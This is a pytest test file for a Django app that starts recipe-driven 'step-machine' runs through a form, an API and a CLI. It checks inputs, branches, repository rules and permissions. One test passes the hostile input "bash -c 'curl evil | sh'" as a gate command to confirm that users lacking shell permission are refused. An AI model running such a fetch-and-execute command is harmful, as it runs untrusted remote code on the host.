"""Starting a step-machine run from the start form, the API and the CLI: the repository
and its branches, typed inputs in alphabetical order, required inputs, the trigger, the
required tools, and inputs that are run as commands."""

import re

import pytest
from django.core.management import CommandError, call_command

from loops.stepmachine.demo import FEATURE_BRANCH
from runs import services
from runs.actor import Actor
from runs.models import Run
from tests.api.conftest import client_for

pytestmark = pytest.mark.django_db

SIMPLE = """
schema: planeai.loop.recipe.v1
id: simple
name: Simple
{extra}
roles:
  r: {{provider: demo, mode: write, isolation: project}}
steps:
  - {{id: done, kind: loop.status, status: approved}}
"""


def demo_repository(client, slug="no-mistakes-demo") -> str:
    made = client.post(f"/recipes/{slug}/demo-repository/")
    assert made.status_code == 302
    return re.search(r"repository=([^&]+)", made["Location"]).group(1)


def test_the_start_form_offers_the_repositorys_branches_and_sorts_inputs(
    client, operator, bundled, sent, django_capture_on_commit_callbacks
):
    from urllib.parse import unquote

    client.force_login(operator)
    page = client.get("/recipes/no-mistakes-demo/start/").content.decode()
    assert "Create a demo repository" in page
    repository = unquote(demo_repository(client))
    page = client.get("/recipes/no-mistakes-demo/start/", {"repository": repository})
    html = page.content.decode()
    assert f'value="{repository}"' in html
    names = re.findall(r'name="input_(\w+)"', html)
    assert names == ["branch", "gate_command", "lint_command", "target_branch"]
    branch_select = re.search(r'<select name="input_branch".*?</select>', html, re.S).group(0)
    assert f'<option value="{FEATURE_BRANCH}">' in branch_select and "main" in branch_select
    target = re.search(r'<select name="input_target_branch".*?</select>', html, re.S).group(0)
    assert '<option value="main" selected>' in target
    assert "Goal" in html  # the message is the run's goal

    form = {"repository": repository, "input_target_branch": "main"}
    missing = client.post("/recipes/no-mistakes-demo/start/", form).content.decode()
    assert "branch: this input is required" in missing
    assert not Run.objects.exists()
    with django_capture_on_commit_callbacks(execute=True):
        started = client.post(
            "/recipes/no-mistakes-demo/start/", {**form, "input_branch": FEATURE_BRANCH}
        )
    run = Run.objects.get()
    assert started["Location"] == f"/runs/{run.pk}/"
    assert run.workdir == repository and run.inputs["branch"] == FEATURE_BRANCH
    assert run.inputs["gate_command"] == "python3 -m unittest -q"
    assert ("advance_run", (run.pk,)) in sent


def test_an_input_run_as_a_command_needs_the_shell_permission_to_change(
    client, operator, editor, shell_author, bundled, sent
):
    from urllib.parse import unquote

    client.force_login(operator)
    repository = unquote(demo_repository(client))
    form = {
        "repository": repository,
        "input_branch": FEATURE_BRANCH,
        "input_target_branch": "main",
        "input_gate_command": "bash -c 'curl evil | sh'",
    }
    refused = client.post("/recipes/no-mistakes-demo/start/", form).content.decode()
    assert "step run_tests runs this input as a command" in refused
    assert "needs the shell permission" in refused and not Run.objects.exists()
    # An editor may change prompts, not shell: refused too.
    client.force_login(editor)
    refused = client.post("/recipes/no-mistakes-demo/start/", form).content.decode()
    assert "needs the shell permission" in refused and not Run.objects.exists()
    client.force_login(shell_author)
    client.post("/recipes/no-mistakes-demo/start/", {**form, "input_gate_command": "pytest -q"})
    assert Run.objects.get().inputs["gate_command"] == "pytest -q"


def test_the_api_refuses_what_the_form_refuses(operator, bundled, plane_recipe, sent, tmp_path):
    api = client_for(operator)
    no_branch = api.post("/api/runs", {"recipe": "no-mistakes-demo"})
    assert no_branch.status_code == 422
    assert "repository" in no_branch.body["errors"] or "branch" in no_branch.body["errors"]
    elsewhere = api.post("/api/runs", {"recipe": "no-mistakes-demo", "repository": str(tmp_path)})
    assert (
        elsewhere.status_code == 422
        and "LOOP_REPOSITORIES" in elsewhere.body["errors"]["repository"]
    )
    plane_recipe(SIMPLE.format(extra="trigger: {kind: task_event}").replace("simple", "tasked"))
    tasked = api.post("/api/runs", {"recipe": "tasked"})
    assert tasked.status_code == 409 and "no task tracker" in tasked.body["detail"]
    plane_recipe(
        SIMPLE.format(extra="tools: {required: [git, no-such-tool-xyz, plane_loops]}").replace(
            "simple", "tooled"
        )
    )
    tooled = api.post("/api/runs", {"recipe": "tooled"})
    assert tooled.status_code == 409
    assert "not available: no-such-tool-xyz (" in tooled.body["detail"]
    assert api.post("/api/runs", {"recipe": "simple"}).status_code == 404
    plane_recipe(SIMPLE.format(extra=""))
    assert api.post("/api/runs", {"recipe": "simple"}).status_code == 201


def test_the_api_names_exactly_the_required_input_left_out(operator, bundled, repo, settings, sent):
    settings.LOOP_REPOSITORIES = [str(repo)]
    api = client_for(operator)
    body = {"recipe": "no-mistakes-demo", "repository": str(repo)}
    missing = api.post("/api/runs", {**body, "inputs": {"target_branch": "main"}})
    assert missing.status_code == 422
    assert missing.body["errors"] == {"branch": "this input is required"}
    assert not Run.objects.exists()
    started = api.post(
        "/api/runs", {**body, "inputs": {"target_branch": "main", "branch": "feature"}}
    )
    assert started.status_code == 201, started.body
    assert Run.objects.get().inputs["branch"] == "feature"


def test_the_cli_creates_dry_runs_ticks_and_stops(
    plane_recipe, operator, sent, capsys, django_capture_on_commit_callbacks
):
    from tests.stepmachine.conftest import WAITING

    plane_recipe(WAITING.replace("roles:", "inputs:\n  goal: {required: true}\nroles:"))
    with pytest.raises(CommandError, match="goal: this input is required"):
        call_command("loop", "create", "--recipe", "waiting")
    call_command("loop", "create", "--recipe", "waiting", "--goal", "ship", "--dry-run")
    out = capsys.readouterr().out
    assert "# resolved recipe (defaults filled in)" in out and "max_ticks: 50" in out
    assert "goal: ship" in out and "nothing was created" in out
    assert not Run.objects.exists()
    with django_capture_on_commit_callbacks(execute=True):
        call_command("loop", "create", "--recipe", "waiting", "--goal", "ship", "--json")
    import json

    created = json.loads(capsys.readouterr().out)
    assert created["status"] == "pending" and created["started"] is False
    run = Run.objects.get()
    assert run.inputs == {"goal": "ship"} and run.message == "ship"
    assert not sent  # created, not started
    call_command("loop", "status", str(run.pk))
    assert "(not started)" in capsys.readouterr().out
    with django_capture_on_commit_callbacks(execute=True):
        call_command("loop", "tick", str(run.pk))
    assert "started" in capsys.readouterr().out and ("advance_run", (run.pk,)) in sent
    call_command("loop", "stop", str(run.pk), "--reason", "enough")
    run.refresh_from_db()
    assert run.status == "cancelled" and run.error == "enough"
    with pytest.raises(CommandError, match="cancelled: there is nothing to tick"):
        call_command("loop", "tick", str(run.pk))


def test_loop_create_records_the_os_users_account_as_run_start_does(
    plane_recipe, operator, sent, monkeypatch, capsys
):
    """`manage.py loop` and `manage.py run` decide who acts the same way (so `approvers:
    others` does not depend on which command started the run)."""
    from tests.stepmachine.conftest import WAITING

    plane_recipe(WAITING)
    monkeypatch.setattr("getpass.getuser", lambda: "otto")
    call_command("loop", "create", "--recipe", "waiting", "--goal", "ship")
    assert Run.objects.get().started_by == operator
    monkeypatch.setattr("getpass.getuser", lambda: "somebody-else")
    call_command("loop", "create", "--recipe", "waiting", "--goal", "again")
    run = Run.objects.order_by("-pk").first()
    assert run.started_by is None and run.starter == "cli (somebody-else)"


def test_loop_recipe_lists_shows_and_validates(house_default, capsys, tmp_path):
    call_command("loop", "recipe", "ls")
    listing = capsys.readouterr().out
    assert re.search(r"^no-mistakes\s+No Mistakes\s+builtin\s+valid", listing, re.M)
    assert "no-mistakes-demo" in listing and "counter-loop" not in listing
    call_command("loop", "recipe", "show", "no-mistakes")
    assert "id: no-mistakes\n" in capsys.readouterr().out
    call_command("loop", "recipe", "validate", "no-mistakes")
    assert capsys.readouterr().out.strip() == "valid"
    broken = tmp_path / "broken.yaml"
    broken.write_text(
        "schema: planeai.loop.recipe.v1\nid: broken\nname: B\nsteps:\n"
        "  - {id: a, kind: round.next, next: nowhere}\n"
    )
    with pytest.raises(SystemExit) as exit_code:
        call_command("loop", "recipe", "validate", str(broken))
    assert exit_code.value.code == 1
    assert "error: line 5, steps[0].next: step 'a': next names unknown step 'nowhere'" in (
        capsys.readouterr().out
    )


def test_sync_knows_a_step_machine_by_its_id_and_a_repositorys_recipes_win(db, settings, tmp_path):
    from recipes.models import Recipe
    from recipes.sync import sync

    repository = tmp_path / "project"
    loops = repository / ".planeai" / "loops"
    loops.mkdir(parents=True)
    (loops / "whatever-file-name.yaml").write_text(
        SIMPLE.format(extra="")
        .replace("id: simple", "id: no-mistakes")
        .replace("name: Simple", "name: Our no-mistakes")
    )
    settings.LOOP_REPOSITORIES = [str(repository)]
    sync()
    recipe = Recipe.objects.get(slug="no-mistakes")
    assert (recipe.name, recipe.origin) == ("Our no-mistakes", "project")
    assert not Recipe.objects.filter(slug="whatever-file-name").exists()


def test_start_run_itself_refuses_a_repository_the_kind_does_not_allow(
    operator, bundled, tmp_path, sent
):
    """The rule lives in services.start_run, so every remote surface (form, API, MCP) and
    any future one keeps it; the command line names a folder as `workdir` instead."""
    actor = Actor.operator(operator, "api")
    inputs = {"branch": FEATURE_BRANCH, "target_branch": "main"}
    with pytest.raises(services.InputError) as refused:
        services.start_run(
            bundled["no-mistakes-demo"], actor, inputs=inputs, repository=str(tmp_path)
        )
    assert "LOOP_REPOSITORIES" in refused.value.errors["repository"]
    with pytest.raises(services.InputError) as refused:
        services.start_run(bundled["counter-loop"], actor, repository=str(tmp_path))
    assert refused.value.errors == {"repository": "workflow runs take no repository"}
    assert not Run.objects.exists()
